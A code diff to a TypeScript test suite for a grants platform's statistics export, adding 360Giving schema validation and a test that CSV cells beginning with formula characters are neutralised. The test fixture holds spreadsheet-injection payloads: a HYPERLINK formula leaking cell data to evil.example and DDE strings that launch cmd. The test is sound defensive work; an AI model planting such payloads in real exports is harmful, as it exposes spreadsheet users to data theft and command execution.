@@ -1,6 +1,10 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { INestApplicationContext } from '@nestjs/common';
+import Ajv2020 from 'ajv/dist/2020';
+import addFormats from 'ajv-formats';
 import { DataSource } from 'typeorm';
-import { DEFAULT_CRITERIA, fromKopecks, StatisticsService, toKopecks } from '@grants/domain';
+import { DEFAULT_CRITERIA, fromKopecks, isValidInn, StatisticsService, toKopecks } from '@grants/domain';
 import { JobName, JobQueue, QueueName } from '@grants/queue';
 import { createWorkerApp } from '@grants/worker/setup';
 import {
@@ -222,6 +226,25 @@ function parseCsv(text: string): string[][] {
     rows.push(row);
   }
   return rows;
+}
+
+const VENDOR_360 = '/work/shared/vendor/360giving';
+
+/** Ajv (JSON Schema 2020-12) over the vendored 360Giving schemas; the package points at the 1.4.2 URL of the grant schema. */
+function giving360PackageValidator() {
+  // Both declare draft 2020-12 by its http:// URI, which Ajv does not know by that name: drop it.
+  const load = (name: string) => {
+    const { $schema: _draft, ...schema } = JSON.parse(readFileSync(join(VENDOR_360, name), 'utf8'));
+    return schema;
+  };
+  const ajv = new Ajv2020({ strict: false, allErrors: true });
+  addFormats(ajv);
+  const grant = load('360-giving-schema.json');
+  ajv.addSchema({
+    ...grant,
+    $id: 'https://raw.githubusercontent.com/ThreeSixtyGiving/standard/1.4.2/schema/360-giving-schema.json',
+  });
+  return ajv.compile(load('360-giving-package-schema.json'));
 }
 
 describe('Annual statistics', () => {
@@ -514,14 +537,14 @@ describe('Annual statistics', () => {
     const a2 = fixture.applications.find((a) => a.key === 'a2')!;
     const o3 = fixture.organizations.find((o) => o.key === 'o3')!;
     expect(byTitle.get(a2.title)).toMatchObject({
-      Identifier: expect.stringMatching(/^360G-XI-RC-LESOSIBIRSK-2026-SC1-\d+$/),
+      Identifier: expect.stringMatching(/^360G-RC-LESOSIBIRSK-2026-SC1-\d+$/),
       Description: a2.summary,
       Currency: 'RUB',
       'Amount Awarded': a2.awarded,
       'Award Date': '2026-07-01', // 18:00 UTC on 30 June is 1 July in Krasnoyarsk
       'Recipient Org:Identifier': `RU-INN-${o3.inn}`,
       'Recipient Org:Name': o3.name,
-      'Funding Org:Identifier': 'XI-RC-LESOSIBIRSK',
+      'Funding Org:Identifier': `RU-INN-${ctx.config.values.FUNDER_INN}`,
       'Grant Programme:Title': 'Конкурс c1',
       'Amount Applied For': a2.requested,
       'Planned Dates:Start Date': '2026-08-01',
@@ -537,18 +560,79 @@ describe('Annual statistics', () => {
     expect(res.body.grants).toHaveLength(4);
     const grant = res.body.grants.find((g: { title: string }) => g.title === b1.title);
     expect(grant).toMatchObject({
-      id: expect.stringMatching(/^360G-XI-RC-LESOSIBIRSK-2026-SC2-\d+$/),
+      id: expect.stringMatching(/^360G-RC-LESOSIBIRSK-2026-SC2-\d+$/),
       currency: 'RUB',
       amountAwarded: 200000,
       amountAppliedFor: 200000,
       awardDate: '2026-09-15',
       recipientOrganization: [{ id: 'RU-INN-2454000011', name: 'АНО «Забота»' }],
-      fundingOrganization: [{ id: 'XI-RC-LESOSIBIRSK', name: ctx.config.values.FUNDER_NAME }],
+      fundingOrganization: [{ id: `RU-INN-${ctx.config.values.FUNDER_INN}`, name: ctx.config.values.FUNDER_NAME }],
       grantProgramme: [{ title: 'Конкурс <малых> грантов & "инициатив"' }],
       plannedDates: [{ startDate: '2026-08-01', endDate: '2026-12-31' }],
     });
     const a2 = fixture.applications.find((a) => a.key === 'a2')!;
     expect(res.body.grants.find((g: { title: string }) => g.title === a2.title).amountAwarded).toBe(240000.5);
+  });
+
+  it('neutralises every formula-leading cell of the CSV (OWASP), keeping a plain -5% readable', async () => {
+    const a1 = fixture.applications.find((a) => a.key === 'a1')!;
+    const o1 = fixture.organizations.find((o) => o.key === 'o1')!;
+    const hostile = {
+      name: '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
+      title: "+cmd|' /C calc'!A0",
+      summary: '-5%',
+      geography: "\r@SUM(1+1)*cmd|' /C calc'!A0",
+    };
+    await db.query('UPDATE organizations SET full_name = $2 WHERE id = $1', [ids.organizations.o1, hostile.name]);
+    await db.query('UPDATE applications SET title = $2, summary = $3, geography = $4 WHERE id = $1', [
+      ids.applications.a1,
+      hostile.title,
+      hostile.summary,
+      hostile.geography,
+    ]);
+    try {
+      const res = await ctx.http.as(admin).get(`/statistics/${Y}/export.csv`);
+      expect(res.status).toBe(200);
+      const [header, ...rows] = parseCsv(res.text.slice(1));
+      const cells = rows.flat();
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+      const row = Object.fromEntries(header.map((h, i) => [h, rows.find((r) => r[1] === `'${hostile.title}`)![i]]));
+      expect(row).toMatchObject({
+        Title: `'${hostile.title}`,
+        Description: "'-5%",
+        'Recipient Org:Name': `'${hostile.name}`,
+        'Beneficiary Location:Name': `'${hostile.geography}`,
+      });
+      expect(res.text).toContain(`,"'-5%",`);
+      // JSON is no spreadsheet: the package keeps the text as entered.
+      const json = await ctx.http.as(admin).get(`/statistics/${Y}/export.json`);
+      const grant = json.body.grants.find((g: { title: string }) => g.title === hostile.title);
+      expect(grant).toMatchObject({ description: '-5%', recipientOrganization: [{ name: hostile.name }] });
+    } finally {
+      await db.query('UPDATE organizations SET full_name = $2 WHERE id = $1', [ids.organizations.o1, o1.name]);
+      await db.query('UPDATE applications SET title = $2, summary = $3, geography = $4 WHERE id = $1', [
+        ids.applications.a1,
+        a1.title,
+        a1.summary,
+        a1.geography,
+      ]);
+    }
+  });
+
+  it('identifies the funder as RU-INN-<FUNDER_INN>, licenses the package, and validates against the 360Giving schema', async () => {
+    const res = await ctx.http.as(admin).get(`/statistics/${Y}/export.json`);
+    expect(res.status).toBe(200);
+    expect(res.body.license).toBe(ctx.config.values.GRANTS_360_LICENSE);
+    const funderId = `RU-INN-${ctx.config.values.FUNDER_INN}`;
+    expect(isValidInn(ctx.config.values.FUNDER_INN)).toBe(true);
+    for (const grant of res.body.grants) {
+      expect(grant.fundingOrganization).toEqual([{ id: funderId, name: ctx.config.values.FUNDER_NAME }]);
+      expect(grant.id.startsWith(`${ctx.config.values.GRANTS_360_PREFIX}-`)).toBe(true);
+    }
+    const validate = giving360PackageValidator();
+    const ok = validate(res.body);
+    expect(validate.errors ?? []).toEqual([]);
+    expect(ok).toBe(true);
   });
 
   it('renders the Russian annual report with its headline, tables and three SVG charts, all text escaped', async () => {
